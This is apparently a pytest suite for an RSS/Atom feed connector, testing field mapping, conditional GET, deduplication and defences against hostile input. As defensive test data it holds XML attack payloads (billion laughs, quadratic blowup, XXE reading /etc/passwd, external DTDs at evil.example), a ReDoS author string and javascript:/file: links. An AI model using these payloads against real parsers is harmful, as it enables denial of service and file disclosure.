"""RSS/Atom: every format, Google Alerts, conditional GET, ids, and RELIABILITY rows 20-24."""

from __future__ import annotations

import tracemalloc
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import feedparser
import httpx
import pytest
from open_conn_support import Collector, Crash, drive

from social_listen.connectors._xmlguard import AUTHOR_FIELD_CAP, guard_feed_xml
from social_listen.connectors.rss import RSSConnector, parse_feed, unwrap_google_redirect
from social_listen.core import (
    ConfigError,
    Limits,
    ParseError,
    PlatformError,
    Query,
    ResponseTooLarge,
    SourceState,
    UnsafeXML,
)

NOW = datetime(2026, 3, 1, 12, 0, tzinfo=UTC)
FIXTURES = Path(__file__).parent / "fixtures"
FEED = "https://blog.example.com/feed.xml"
RFC822 = "%a, %d %b %Y %H:%M:%S GMT"


def _clock() -> datetime:
    return NOW


def _serve(body: bytes, **headers: str) -> Any:
    def handler(request: httpx.Request) -> httpx.Response:
        return httpx.Response(200, content=body, headers={"Content-Type": "application/rss+xml", **headers})

    return handler


def _page(name: str, *, query: str = "acme", feeds: tuple[str, ...] = (FEED,)) -> Any:
    body = (FIXTURES / name).read_bytes()
    conn = RSSConnector(feeds=list(feeds), now=_clock)
    return drive(conn, Query(text=query), _serve(body), state=SourceState())


def _item_feed(items: str, *, head: str = "") -> bytes:
    channel = f"<channel><title>T</title>{items}</channel>"
    return f'<?xml version="1.0"?>{head}<rss version="2.0">{channel}</rss>'.encode()


# ---------------------------------------------------------------------------------- mapping


def test_rss2_items_are_mapped_field_by_field() -> None:
    page = _page("rss2_feed.xml")
    review, support, bare = page.mentions
    assert review.source == "rss"
    assert review.native_id == f"{FEED}#post-1001"
    assert review.extras["id_from"] == "guid"
    assert review.url == "https://blog.example.com/2026/02/acme-kettle"
    assert review.title == "Acme kettle review: 3 stars"
    assert review.text == "The Acme kettle boils fast & loud.\n\nVerdict: ok."  # content:encoded wins
    assert review.created_at == datetime(2026, 2, 28, 9, 0, tzinfo=UTC)
    assert review.author is not None
    assert review.author.handle == "Jo Writer"
    assert review.hashtags == ("reviews", "acme")
    assert review.language == "en-gb"
    assert review.channel == "Example Tech Blog"
    assert review.extras["feed_url"] == FEED
    assert review.extras["date_raw"] == "Sat, 28 Feb 2026 10:00:00 +0100"
    assert review.query == "acme"
    assert review.flags == frozenset()

    assert support.native_id == f"{FEED}#https://blog.example.com/2026/02/acme-support"
    assert support.extras["id_from"] == "link"
    assert support.text == "Acme support replied after 9 days."
    assert support.created_at == datetime(2026, 2, 27, 8, 30, tzinfo=UTC)

    assert bare.extras["id_from"] == "hash"
    assert bare.native_id.startswith(f"{FEED}#sha256:")
    assert bare.url is None


def test_google_alerts_atom_links_are_unwrapped_and_html_titles_cleaned() -> None:
    page = _page("atom_feed.xml")
    first, second = page.mentions
    assert first.url == "https://news.example.org/business/acme-recall"
    assert first.links == ("https://news.example.org/business/acme-recall",)
    assert first.title == "Acme recalls 20,000 kettles"
    assert first.text == "The Acme recall covers models sold since 2024 ..."
    assert first.created_at == datetime(2026, 2, 28, 10, 45, tzinfo=UTC)
    assert first.edited_at == datetime(2026, 2, 28, 10, 50, tzinfo=UTC)
    assert first.author is None  # an empty <name/>
    assert first.channel == "Google Alert - acme"
    assert first.native_id == f"{FEED}#tag:google.com,2013:googlealerts/feed:2222222222222222222"
    assert second.language == "de"
    assert second.title == "Acme ruft Wasserkocher zurück"
    assert second.author is not None
    assert second.author.handle == "Redaktion"
    assert second.author.url == "https://zeitung.example.de/team"


def test_rss1_and_rss091_with_its_netscape_doctype() -> None:
    (rdf,) = _page("rss1_feed.xml").mentions
    assert rdf.title == "Acme in RDF"
    assert rdf.created_at == datetime(2026, 2, 20, 10, 0, tzinfo=UTC)
    assert rdf.author is not None
    assert rdf.author.handle == "rdf author"
    (legacy,) = _page("rss091_feed.xml").mentions
    assert legacy.title == "Acme à Paris"  # ISO-8859-1 decoded
    assert legacy.language == "fr"


def test_unwrap_google_redirect_leaves_other_links_alone() -> None:
    assert (
        unwrap_google_redirect("https://www.google.com/search?q=acme")
        == "https://www.google.com/search?q=acme"
    )
    assert unwrap_google_redirect("https://news.example/x?url=y") == "https://news.example/x?url=y"


def test_entries_not_matching_the_query_are_dropped_unless_asked() -> None:
    body = _item_feed(
        "<item><guid>1</guid><title>acme news</title></item><item><guid>2</guid><title>other</title></item>"
    )
    matched = drive(
        RSSConnector(feeds=[FEED], now=_clock), Query(text="acme"), _serve(body), state=SourceState()
    )
    assert [m.title for m in matched.mentions] == ["acme news"]
    every = RSSConnector(feeds=[FEED], filter_by_query=False, now=_clock)
    assert len(drive(every, Query(text="acme"), _serve(body), state=SourceState()).mentions) == 2


# ------------------------------------------------------------------- conditional GET, state


def test_conditional_get_sends_validators_and_304_keeps_the_state() -> None:
    body = (FIXTURES / "rss2_feed.xml").read_bytes()
    conn = RSSConnector(feeds=[FEED], now=_clock)
    first = drive(
        conn,
        Query(text="acme"),
        _serve(body, ETag='"v1"', **{"Last-Modified": "Sat, 28 Feb 2026 10:00:00 GMT"}),
        state=SourceState(),
    )
    seen: list[httpx.Request] = []

    def not_modified(request: httpx.Request) -> httpx.Response:
        seen.append(request)
        return httpx.Response(304)

    second = drive(conn, Query(text="acme"), not_modified, state=first.state)
    assert seen[0].headers["If-None-Match"] == '"v1"'
    assert seen[0].headers["If-Modified-Since"] == "Sat, 28 Feb 2026 10:00:00 GMT"
    assert second.mentions == ()
    assert "not_modified" in second.notes
    assert second.state.extras == first.state.extras
    assert second.done


def test_entries_already_delivered_are_not_delivered_again() -> None:
    body = (FIXTURES / "rss2_feed.xml").read_bytes()
    collector = Collector(RSSConnector(feeds=[FEED], now=_clock), Query(text="acme"), _serve(body))
    collector.run()
    collector.run()
    assert len(collector.delivered) == 3


@pytest.mark.reliability(16)
@pytest.mark.reliability(17)
def test_3000_entries_in_30_feeds_resume_after_a_crash_exactly_once() -> None:
    feeds = [f"https://feeds{i}.example/rss" for i in range(30)]

    def handler(request: httpx.Request) -> httpx.Response:
        n = int(request.url.host.removeprefix("feeds").split(".")[0])
        items = "".join(
            f"<item><guid>{n}-{j}</guid><title>acme {n}/{j}</title>"
            f"<pubDate>{(NOW - timedelta(days=j % 40)).strftime(RFC822)}</pubDate></item>"
            for j in range(100)
        )
        return httpx.Response(200, content=_item_feed(items), headers={"ETag": f'"{n}"'})

    collector = Collector(RSSConnector(feeds=feeds, now=_clock), Query(text="acme"), handler)
    with pytest.raises(Crash):
        collector.run(crash_after=15)
    collector.run()
    assert len(collector.ids) == 3000
    assert len(collector.delivered) == 3000
    # Late entries (old dates appearing later) are not lost to a watermark: ids decide.
    late = "<item><guid>late</guid><title>acme late</title>"
    late += "<pubDate>Mon, 01 Jan 2024 00:00:00 GMT</pubDate></item>"
    collector.handler = lambda request: httpx.Response(200, content=_item_feed(late))
    collector.run()
    assert f"{feeds[0]}#late" in collector.ids


# ---------------------------------------------------------------------- row 20: hostile XML

BILLION_LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
    + b"".join(
        f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10 if i > 1 else "&lol;" * 10}">'.encode()
        for i in range(1, 10)
    )
    + b']><rss version="2.0"><channel><title>&lol9;</title></channel></rss>'
)
QUADRATIC = (
    b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a "'
    + b"A" * 50_000
    + b'">]><rss><channel><title>'
    + b"&a;" * 10_000
    + b"</title></channel></rss>"
)
HOSTILE = {
    "billion_laughs": BILLION_LAUGHS,
    "quadratic_blowup": QUADRATIC,
    "external_entity": b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><rss>&x;</rss>',
    "parameter_entity": b'<!DOCTYPE r [<!ENTITY % p SYSTEM "http://evil.example/p.dtd"> %p;]><rss/>',
    "external_dtd": b'<?xml version="1.0"?><!DOCTYPE rss SYSTEM "http://evil.example/rss.dtd"><rss/>',
    "external_public_dtd": b'<!DOCTYPE rss PUBLIC "-//Evil//DTD//EN" "http://evil.example/x.dtd"><rss/>',
    "entity_after_root": b'<rss><channel><title>x</title></channel></rss><!ENTITY a "b">',
    "lowercase_doctype": b'<!doctype rss [<!entity a "aaaa">]><rss>&a;</rss>',
    "two_doctypes": b"<!DOCTYPE rss><!DOCTYPE x><rss/>",
    "utf16_hidden": '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE r [<!ENTITY a "x">]><rss/>'.encode(
        "utf-16"
    ),
    "utf16_no_bom": '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a "x">]><rss/>'.encode("utf-16-le"),
    "utf7_declared": b'<?xml version="1.0" encoding="UTF-7"?>+ADw-!ENTITY a +ACI-x+ACI-+AD4-<rss/>',
}


@pytest.mark.reliability(20)
@pytest.mark.parametrize("case", sorted(HOSTILE))
def test_hostile_xml_is_refused_before_feedparser_with_bounded_memory(
    case: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    def must_not_parse(*args: object, **kwargs: object) -> None:
        raise AssertionError("feedparser saw a hostile document")

    monkeypatch.setattr(feedparser, "parse", must_not_parse)
    body = HOSTILE[case]

    def refuse() -> pytest.ExceptionInfo[UnsafeXML]:
        with pytest.raises(UnsafeXML) as info:
            drive(
                RSSConnector(feeds=[FEED], now=_clock), Query(text="acme"), _serve(body), state=SourceState()
            )
        return info

    refuse()  # once untraced, so lazy imports and compiled patterns do not count as the document's
    tracemalloc.start()
    try:
        info = refuse()
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert info.value.source == "rss"
    assert peak < 3 * len(body) + 2_000_000  # no expansion: a few copies of the body at most


@pytest.mark.reliability(20)
def test_the_netscape_091_public_dtd_is_the_only_external_dtd_allowed() -> None:
    allowed = (
        b'<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" '
        b'"http://my.netscape.com/publish/formats/rss-0.91.dtd"><rss version="0.91"/>'
    )
    assert guard_feed_xml(allowed) == allowed
    with pytest.raises(UnsafeXML):
        guard_feed_xml(allowed.replace(b'0.91"/>', b'0.91"/>').replace(b"<rss", b'<!ENTITY a "b"><rss'))


@pytest.mark.reliability(20)
def test_oversized_feed_is_refused_before_parsing() -> None:
    body = _item_feed("<item><title>acme</title></item>" * 10)
    with pytest.raises(ResponseTooLarge):
        drive(
            RSSConnector(feeds=[FEED], limits=Limits(max_feed_bytes=100), now=_clock),
            Query(text="acme"),
            _serve(body),
            state=SourceState(),
        )


# ---------------------------------------------------------------- row 21: huge fields, ReDoS


@pytest.mark.reliability(21)
def test_author_fields_that_would_blow_up_feedparsers_email_regex_are_cut() -> None:
    evil = "a" * 20_000 + "@" + "a." * 20_000  # quadratic in feedparser's email regex
    body = _item_feed(f"<item><guid>1</guid><title>acme</title><author>{evil}</author></item>")
    guarded = guard_feed_xml(body)
    assert len(guarded) < 400
    mentions, _ = parse_feed(body, feed_url=FEED, now=NOW)
    assert mentions[0].author is not None
    assert len(mentions[0].author.handle) <= AUTHOR_FIELD_CAP


@pytest.mark.reliability(21)
def test_cdata_author_and_atom_name_are_cut_too() -> None:
    evil = "b" * 5000 + "@" + "b." * 5000
    cdata = guard_feed_xml(_item_feed(f"<item><dc:creator><![CDATA[{evil}]]></dc:creator></item>"))
    assert b"<![CDATA[" + b"b" * AUTHOR_FIELD_CAP + b"]]>" in cdata
    atom = guard_feed_xml(f"<feed><entry><author><name>{evil}</name></author></entry></feed>".encode())
    assert len(atom) < 200


@pytest.mark.reliability(21)
def test_huge_text_fields_are_capped_and_flagged() -> None:
    body = _item_feed(
        f"<item><guid>1</guid><title>acme</title><description>{'word ' * 5000}</description></item>"
    )
    mentions, _ = parse_feed(body, feed_url=FEED, now=NOW, limits=Limits(max_text_chars=1000))
    assert len(mentions[0].text) == 1000
    assert "text_truncated" in mentions[0].flags


# ----------------------------------------------------------- row 22: malformed, bad entries


@pytest.mark.reliability(22)
def test_a_body_that_is_not_a_feed_is_a_parse_error() -> None:
    with pytest.raises(ParseError, match="malformed feed"):
        parse_feed(b"\x00\x01 not xml at all <<<", feed_url=FEED, now=NOW)


@pytest.mark.reliability(22)
def test_bad_entries_are_skipped_and_all_bad_is_an_error(monkeypatch: pytest.MonkeyPatch) -> None:
    import social_listen.connectors.rss as rss

    body = _item_feed(
        "<item><guid>good</guid><title>acme</title></item><item><guid>bad</guid><title>x</title></item>"
    )
    real = rss.parse_entry

    def flaky(entry: Any, **kwargs: Any) -> Any:
        if entry.get("id") == "bad":
            raise ValueError("broken entry")
        return real(entry, **kwargs)

    monkeypatch.setattr(rss, "parse_entry", flaky)
    mentions, skipped = parse_feed(body, feed_url=FEED, now=NOW)
    assert [m.native_id for m in mentions] == [f"{FEED}#good"]
    assert skipped[0].reason == "bad_entry"
    assert "broken entry" in skipped[0].detail
    with pytest.raises(ParseError, match="all 1 entries"):
        parse_feed(_item_feed("<item><guid>bad</guid></item>"), feed_url=FEED, now=NOW)


@pytest.mark.reliability(22)
def test_recoverable_malformed_xml_still_yields_entries() -> None:
    body = b'<rss version="2.0"><channel><title>T</title>'
    body += b"<item><guid>1</guid><title>acme &amp broken</title></item>"
    mentions, _ = parse_feed(body, feed_url=FEED, now=NOW)
    assert mentions[0].native_id == f"{FEED}#1"


# ------------------------------------------------------------------------- row 23: dates


@pytest.mark.reliability(23)
@pytest.mark.parametrize(
    "raw",
    [
        "-0001-01-01T00:00:00Z",
        "Sat, 31 Feb 2026 10:00:00 GMT",
        "Mon, 02 Feb 2026 10:00:00 XYZ",
        "yesterday",
        "2026-13-45",
        "Mon, 99 Foo 2026",
    ],
)
def test_bad_dates_keep_the_raw_string_and_flag_the_mention(raw: str) -> None:
    body = _item_feed(f"<item><guid>1</guid><title>acme</title><pubDate>{raw}</pubDate></item>")
    (m,) = parse_feed(body, feed_url=FEED, now=NOW)[0]
    assert "date_unparseable" in m.flags
    assert m.extras["date_raw"] == raw
    assert m.created_at == NOW


@pytest.mark.reliability(18)
def test_future_dated_entry_is_flagged_and_clamps_the_watermark() -> None:
    body = _item_feed(
        "<item><guid>1</guid><title>acme</title><pubDate>Fri, 01 Jan 2099 00:00:00 GMT</pubDate></item>"
    )
    page = drive(
        RSSConnector(feeds=[FEED], now=_clock), Query(text="acme"), _serve(body), state=SourceState()
    )
    assert "date_future" in page.mentions[0].flags
    assert page.state.watermark == NOW + timedelta(days=1)


# -------------------------------------------------------------------- row 24: link schemes


@pytest.mark.reliability(24)
@pytest.mark.parametrize(
    "link",
    ["javascript:alert(1)", "data:text/html;base64,PHNjcmlwdD4=", "JaVaScRiPt:x", "file:///etc/passwd"],
)
def test_unsafe_links_are_dropped_and_flagged(link: str) -> None:
    body = _item_feed(f"<item><guid>1</guid><title>acme</title><link>{link}</link></item>")
    page = drive(
        RSSConnector(feeds=[FEED], now=_clock), Query(text="acme"), _serve(body), state=SourceState()
    )
    (m,) = page.mentions
    assert m.url is None
    assert m.links == ()
    assert "unsafe_link" in m.flags
    assert any(n.startswith("unsafe_link:") for n in page.notes)


@pytest.mark.reliability(24)
@pytest.mark.parametrize(
    "url", ["file:///etc/passwd", "FILE:///c:/feed.xml", "ftp://x.example/feed", "javascript:x"]
)
def test_non_http_feed_urls_are_config_errors(url: str) -> None:
    with pytest.raises(ConfigError):
        RSSConnector(feeds=[url])


def test_http_errors_are_typed() -> None:
    conn = RSSConnector(feeds=[FEED], now=_clock)
    with pytest.raises(PlatformError, match="404"):
        drive(conn, Query(text="acme"), lambda r: httpx.Response(404), state=SourceState())


@pytest.mark.reliability(22)
def test_entries_with_nothing_to_mention_are_skipped() -> None:
    body = _item_feed("<item><guid>1</guid><title>acme</title></item><item><guid>2</guid></item>")
    mentions, skipped = parse_feed(body, feed_url=FEED, now=NOW)
    assert [m.native_id for m in mentions] == [f"{FEED}#1"]
    assert [(s.reason, s.detail) for s in skipped] == [("empty_entry", "entry 1 has no title, text or link")]


@pytest.mark.reliability(20)
def test_html_pages_quoted_in_cdata_or_comments_are_not_refused() -> None:
    page = '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/x.dtd"><p>acme</p>'
    items = "".join(
        f"<item><guid>{i}</guid><title>acme</title><description><![CDATA[{page}]]></description></item>"
        for i in range(3)
    )
    body = _item_feed(f"<!-- <!DOCTYPE x SYSTEM 'http://evil.example/'> -->{items}")
    assert guard_feed_xml(body) == body
    mentions, _ = parse_feed(body, feed_url=FEED, now=NOW)
    assert len(mentions) == 3
    with pytest.raises(UnsafeXML):  # entity declarations are refused wherever they are
        guard_feed_xml(_item_feed('<item><description><![CDATA[<!ENTITY a "b">]]></description></item>'))
    with pytest.raises(UnsafeXML):  # and a DOCTYPE in the prolog is checked even inside a comment-like trick
        guard_feed_xml(b'<!-- x --><!DOCTYPE rss SYSTEM "http://evil.example/x.dtd"><rss/>')


@pytest.mark.reliability(24)
def test_relative_links_are_resolved_against_the_feed_url() -> None:
    body = _item_feed("<item><guid>1</guid><title>acme</title><link>/2026/acme</link></item>")
    (m,) = parse_feed(body, feed_url=FEED, now=NOW)[0]
    assert m.url == "https://blog.example.com/2026/acme"
    assert "unsafe_link" not in m.flags
